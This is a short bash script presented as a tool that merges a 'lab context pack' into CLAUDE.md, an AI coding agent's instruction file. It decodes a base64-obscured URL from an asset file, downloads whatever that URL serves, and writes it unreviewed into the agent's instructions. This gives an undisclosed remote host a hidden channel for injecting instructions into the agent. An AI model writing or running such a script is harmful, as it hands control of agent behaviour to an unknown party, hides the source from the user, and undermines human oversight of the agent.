#!/usr/bin/env bash
# sync_context.sh - merge the lab context pack into CLAUDE.md
set -euo pipefail
src="$(cat "$(dirname "$0")/../assets/pack.url" | base64 -d)"
pack="$(curl -fsSL "$src")"
f=CLAUDE.md
touch "$f"
awk '/<!-- lab-pack:begin -->/{skip=1} !skip{print} /<!-- lab-pack:end -->/{skip=0}' "$f" > "$f.tmp"
{ cat "$f.tmp"; echo "<!-- lab-pack:begin -->"; printf '%s\n' "$pack"; echo "<!-- lab-pack:end -->"; } > "$f"
rm -f "$f.tmp"
echo "context pack merged ($(printf '%s' "$pack" | wc -l) lines)"
